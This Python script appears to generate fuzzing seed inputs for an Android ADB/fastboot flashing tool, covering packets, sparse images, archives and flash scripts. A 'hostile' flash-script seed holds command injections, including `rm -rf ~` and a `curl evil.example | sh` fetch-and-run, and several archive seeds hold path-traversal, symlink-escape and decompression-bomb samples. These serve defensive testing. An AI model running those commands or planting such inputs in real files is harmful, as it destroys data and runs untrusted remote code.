#!/usr/bin/env python3
"""Writes the seed corpus of the fuzz harnesses into tests/fuzz/corpus/<name>/.

Seeds are small, valid (or nearly valid) inputs of each format, so libFuzzer
starts from the shapes real phones and packages use. Deterministic: running it
again rewrites the same files. Regression seeds (regress-*) are written by hand
when a crash is fixed and are left alone here.

usage: python3 tests/fuzz/seeds.py   (from anywhere)
"""
import gzip
import io
import os
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
CORPUS = os.path.join(HERE, "corpus")


def put(harness, name, data):
    d = os.path.join(CORPUS, harness)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# ---- ADB ----

def adb_packet(cmd, arg0, arg1, payload=b"", checksum=True):
    c = struct.unpack("<I", cmd)[0]
    check = sum(payload) & 0xFFFFFFFF if checksum else 0
    return struct.pack("<6I", c, arg0, arg1, len(payload), check, c ^ 0xFFFFFFFF) + payload


BANNER = b"device::ro.product.name=vermeer;ro.product.model=23113RKC6C;ro.product.device=vermeer;features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,abb_exec\0"


def seeds_adb_packet():
    put("adb_packet", "cnxn", b"\x00" + adb_packet(b"CNXN", 0x01000001, 0x100000, BANNER))
    put("adb_packet", "auth-token", b"\x00" + adb_packet(b"AUTH", 1, 0, bytes(range(20))))
    stream = (adb_packet(b"OKAY", 5, 1) + adb_packet(b"WRTE", 5, 1, b"\x01\x03\x00\x00\x00ok\n", False)
              + adb_packet(b"CLSE", 5, 1))
    put("adb_packet", "okay-wrte-clse", b"\x40" + stream)
    put("adb_packet", "stop-after-1", b"\x10" + stream)
    put("adb_packet", "bad-checksum", b"\x00" + adb_packet(b"WRTE", 1, 2, b"abc")[:16] + b"\x00\x00\x00\x00" + adb_packet(b"WRTE", 1, 2, b"abc")[20:])
    put("adb_packet", "banner-old", b"\x00" + adb_packet(b"CNXN", 0x01000000, 4096, b"device::"))
    put("adb_packet", "banner-text", BANNER)
    put("adb_packet", "stls", b"\x01" + adb_packet(b"STLS", 0x01000000, 0))


def shell_packet(i, data):
    return struct.pack("<BI", i, len(data)) + data


def seeds_adb_shell():
    put("adb_shell", "out-err-exit", shell_packet(1, b"hello\n") + shell_packet(2, b"oops\n") + shell_packet(3, b"\x00"))
    put("adb_shell", "empty-packets", shell_packet(1, b"") + shell_packet(4, b"") + shell_packet(3, b"\x01"))
    put("adb_shell", "cut", shell_packet(1, b"x" * 100)[:50])
    put("adb_shell", "window", shell_packet(5, b"24x80,0x0\0"))


def sync_hdr(i, v):
    return i + struct.pack("<I", v)


def seeds_adb_sync():
    # First byte: the expectation (0 STAT, 1 STA2, 2 LIST, 3 RECV, 4 status).
    put("adb_sync", "stat", b"\x00" + b"STAT" + struct.pack("<3I", 0o100644, 1234, 1700000000))
    put("adb_sync", "stat-missing", b"\x00" + b"STAT" + bytes(12))
    st2 = b"STA2" + struct.pack("<IQQIIIIQqqq", 0, 1, 2, 0o100644, 1, 0, 0, 4096, 1, 2, 3)
    put("adb_sync", "sta2", b"\x01" + st2)
    put("adb_sync", "lst2-enoent", b"\x01" + b"LST2" + struct.pack("<I", 2) + bytes(64))
    dent = b"DENT" + struct.pack("<4I", 0o40755, 4096, 1700000000, 3) + b"abc"
    put("adb_sync", "list", b"\x02" + dent + dent + b"DONE" + bytes(16))
    put("adb_sync", "recv", b"\x03" + sync_hdr(b"DATA", 5) + b"hello" + sync_hdr(b"DATA", 2) + b"!!" + sync_hdr(b"DONE", 0))
    put("adb_sync", "recv-fail", b"\x03" + sync_hdr(b"DATA", 1) + b"x" + sync_hdr(b"FAIL", 17) + b"No such file here")
    put("adb_sync", "send-okay", b"\x04" + sync_hdr(b"OKAY", 0))
    put("adb_sync", "send-fail", b"\x04" + sync_hdr(b"FAIL", 22) + b"couldn't create file: ")


# ---- fastboot ----

def seeds_fastboot_protocol():
    for name, data in [("okay", b"OKAY"), ("info", b"INFOmax-download-size: 0x20000000"),
                       ("data", b"DATA00100000"), ("fail", b"FAILunknown command"),
                       ("text", b"TEXTflashing..."), ("hex", b"0x20000000"), ("dec", b"4096"),
                       ("fb01", b"FB01"), ("partition", b"boot_a")]:
        put("fastboot_protocol", name, data)


# ---- sparse images ----

def sparse(blk, total_blks, chunks, file_hdr=28, chunk_hdr=12):
    body = b""
    for c in chunks:
        kind = c[0]
        if kind == "raw":
            data = c[1]
            body += struct.pack("<HHII", 0xCAC1, 0, len(data) // blk, chunk_hdr + len(data)) + bytes(chunk_hdr - 12) + data
        elif kind == "fill":
            body += struct.pack("<HHII", 0xCAC2, 0, c[1], chunk_hdr + 4) + bytes(chunk_hdr - 12) + struct.pack("<I", c[2])
        elif kind == "skip":
            body += struct.pack("<HHII", 0xCAC3, 0, c[1], chunk_hdr) + bytes(chunk_hdr - 12)
        elif kind == "crc":
            body += struct.pack("<HHII", 0xCAC4, 0, 0, chunk_hdr + 4) + bytes(chunk_hdr - 12) + b"\x12\x34\x56\x78"
    hdr = struct.pack("<IHHHHIIII", 0xED26FF3A, 1, 0, file_hdr, chunk_hdr, blk, total_blks, len(chunks), 0)
    return hdr + bytes(file_hdr - 28) + body


def sparse_seeds():
    out = {}
    out["small-blocks"] = sparse(4, 10, [("raw", b"ABCDEFGH"), ("fill", 3, 0xDEADBEEF), ("skip", 4), ("raw", b"wxyz"), ("crc",)])
    out["big-headers"] = sparse(8, 6, [("skip", 1), ("raw", b"0123456789abcdef"), ("fill", 3, 7)], file_hdr=32, chunk_hdr=16)
    out["empty"] = sparse(4096, 0, [])
    out["dont-care-only"] = sparse(4096, 1 << 20, [("skip", 1 << 20)])
    out["fill-huge"] = sparse(4096, 0xFFFFFFFF, [("fill", 0xFFFFFFFF, 0x01020304)])
    out["raw-4k"] = sparse(4096, 3, [("raw", bytes(range(256)) * 16), ("skip", 1), ("fill", 1, 0)])
    # img2simg's own output for a raw file with data, zeros and a pattern.
    if shutil.which("img2simg"):
        with tempfile.TemporaryDirectory() as t:
            raw = os.path.join(t, "raw")
            with open(raw, "wb") as f:
                f.write(b"ANDROID!" + bytes(range(256)) * 15 + b"\xff" * 248)
                f.write(bytes(4096 * 3))
                f.write(b"\xaa\xbb\xcc\xdd" * 1024)
                f.write(os.urandom(0) + b"tail" * 1024)
            simg = os.path.join(t, "simg")
            subprocess.run(["img2simg", raw, simg], check=True)
            with open(simg, "rb") as f:
                out["img2simg"] = f.read()
    return out


def seeds_sparse():
    for name, data in sparse_seeds().items():
        put("sparse", name, data)


def seeds_fastboot_image():
    # First byte: max-download-size (0: 64 B, 1: 100, 2: 256, 3: 1000, 4: 4160,
    # 5: 10000, 6: 70000, 7: unlimited).
    for i, (name, data) in enumerate(sparse_seeds().items()):
        put("fastboot_image", name, bytes([2 + i % 6]) + data)
    put("fastboot_image", "raw-odd-size", b"\x05" + bytes(range(256)) * 40 + b"end")
    put("fastboot_image", "raw-fits", b"\x07" + b"ANDROID!" + bytes(100))


# ---- archives ----

def tar_bytes(members, mode="w", fmt=tarfile.GNU_FORMAT):
    if mode == "w:gz":  # gzip by hand: a fixed mtime in its header
        return gzip.compress(tar_bytes(members, "w", fmt), mtime=0)
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode=mode, format=fmt) as tf:
        for m in members:
            ti = tarfile.TarInfo(m[0])
            ti.mtime = 1700000000
            if m[1] == "file":
                ti.size = len(m[2])
                ti.mode = 0o644
                tf.addfile(ti, io.BytesIO(m[2]))
            elif m[1] == "dir":
                ti.type = tarfile.DIRTYPE
                ti.mode = 0o755
                tf.addfile(ti)
            elif m[1] == "sym":
                ti.type = tarfile.SYMTYPE
                ti.linkname = m[2]
                tf.addfile(ti)
            elif m[1] == "hard":
                ti.type = tarfile.LNKTYPE
                ti.linkname = m[2]
                tf.addfile(ti)
            elif m[1] == "fifo":
                ti.type = tarfile.FIFOTYPE
                tf.addfile(ti)
    return bio.getvalue()


def zip_bytes(members):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(zi, data)
    return bio.getvalue()


ROM = [("vermeer_images/", "dir"), ("vermeer_images/images/", "dir"),
       ("vermeer_images/images/boot.img", "file", b"ANDROID!" + bytes(200)),
       ("vermeer_images/images/anti_version.txt", "file", b"2\n"),
       ("vermeer_images/flash_all.sh", "file", b"fastboot $* flash boot_ab `dirname $0`/images/boot.img\n")]


def archive_seeds():
    out = {}
    out["rom.tar"] = tar_bytes(ROM)
    out["rom.tgz"] = tar_bytes(ROM, "w:gz")
    out["rom.tar.xz"] = tar_bytes(ROM, "w:xz")
    out["rom.tar.bz2"] = tar_bytes(ROM, "w:bz2")
    out["pax.tar"] = tar_bytes([("a/b.txt", "file", b"x" * 600)], fmt=tarfile.PAX_FORMAT)
    out["rom.zip"] = zip_bytes([("vermeer/images/boot.img", b"ANDROID!" + bytes(300)), ("vermeer/flash_all.bat", b"fastboot %* reboot\r\n")])
    out["traversal.tar"] = tar_bytes([("../evil", "file", b"x")])
    out["absolute.tar"] = tar_bytes([("/tmp/evil", "file", b"x")])
    out["symlink-out.tar"] = tar_bytes([("link", "sym", "../../etc"), ("link/passwd", "file", b"x")])
    out["symlink-chain.tar"] = tar_bytes([("a", "sym", "b"), ("b", "sym", ".."), ("c", "file", b"x")])
    out["hardlink.tar"] = tar_bytes([("f", "file", b"data"), ("g", "hard", "f"), ("h", "hard", "/etc/passwd")])
    out["fifo.tar"] = tar_bytes([("p", "fifo")])
    out["zip-traversal.zip"] = zip_bytes([("../../evil", b"x")])
    out["bomb.tgz"] = tar_bytes([("zeros", "file", bytes(2 << 20))], "w:gz")
    out["truncated.tgz"] = tar_bytes(ROM, "w:gz")[:-30]
    return out


def seeds_archive():
    for name, data in archive_seeds().items():
        put("archive", name, data)
        put("archive_extract", name, data)


# ---- text formats ----

def seeds_flash_script():
    src = open(os.path.join(ROOT, "tests/unit/test_flash_script.c")).read()
    # The script texts of the unit test, joined from their C string pieces.
    import re
    for m in re.finditer(r"static const char (\w+)\[\] =\n((?:\s*\".*\"\n?)+);", src):
        text = "".join(re.findall(r"\"((?:[^\"\\]|\\.)*)\"", m.group(2)))
        text = text.encode().decode("unicode_escape").encode("latin-1")
        put("flash_script", m.group(1), text)
    put("flash_script", "hostile", "fastboot $* flash boot `rm -rf ~`/images/boot.img\n"
        "fastboot $* flash boot images/../../etc/passwd; reboot\n"
        "fastboot $* flash boot /etc/shadow\n$(curl evil.example | sh)\n")
    put("flash_script", "bat", "fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *vermeer\" || @echo \"Missmatching image and device\" && exit /B 1\r\n"
        "fastboot %* flash boot_ab %~dp0images\\boot.img || @echo \"Flash boot error\" && exit /B 1\r\n"
        "fastboot %* set_active a\r\nfastboot %* reboot\r\n")


def seeds_base64():
    put("base64", "key", "QAAAAA== user@host\n")
    put("base64", "plain", "aGVsbG8gd29ybGQ=")
    put("base64", "no-pad", "YWJj")
    put("base64", "two-pad", "YQ==")
    put("base64", "bad-pad", "YQ=a")


def seeds_lua():
    for d, sub in [("devices", ""), ("devices/xiaomi", "xiaomi-"), ("devices/samsung", "samsung-"),
                   ("devices/google", "google-")]:
        for f in sorted(os.listdir(os.path.join(ROOT, d))):
            if f.endswith(".lua"):
                put("device_file", sub + f[:-4], open(os.path.join(ROOT, d, f), "rb").read())
    bad = os.path.join(ROOT, "tests/fixtures/devices-bad")
    for f in sorted(os.listdir(bad))[:8]:
        put("device_file", "bad-" + f[:-4], open(os.path.join(bad, f), "rb").read())
    rec = os.path.join(ROOT, "tests/fixtures/recipes")
    for f in sorted(os.listdir(rec)):
        put("recipe", f[:-4], open(os.path.join(rec, f), "rb").read())


def seeds_sim_adbd():
    for name, data in [("shell-v2", b"shell,v2,raw:ls -l /sdcard"), ("shell-pty", b"shell:"),
                       ("sync", b"sync:"), ("reboot", b"reboot:bootloader"), ("exec", b"exec:cat /x"),
                       ("send-spec", b"/sdcard/Download/a.bin,0644"), ("number", b"0x20000000")]:
        put("sim_adbd", name, data)
    put("sim_adbd", "stdin-stream", shell_packet(0, b"echo hi\n") + shell_packet(4, b"") + shell_packet(5, b"24x80"))
    put("sim_adbd", "header", adb_packet(b"OPEN", 1, 0, b"shell:\0"))


def main():
    for fn in [seeds_adb_packet, seeds_adb_shell, seeds_adb_sync, seeds_fastboot_protocol,
               seeds_sparse, seeds_fastboot_image, seeds_archive, seeds_flash_script,
               seeds_base64, seeds_lua, seeds_sim_adbd]:
        fn()


if __name__ == "__main__":
    main()
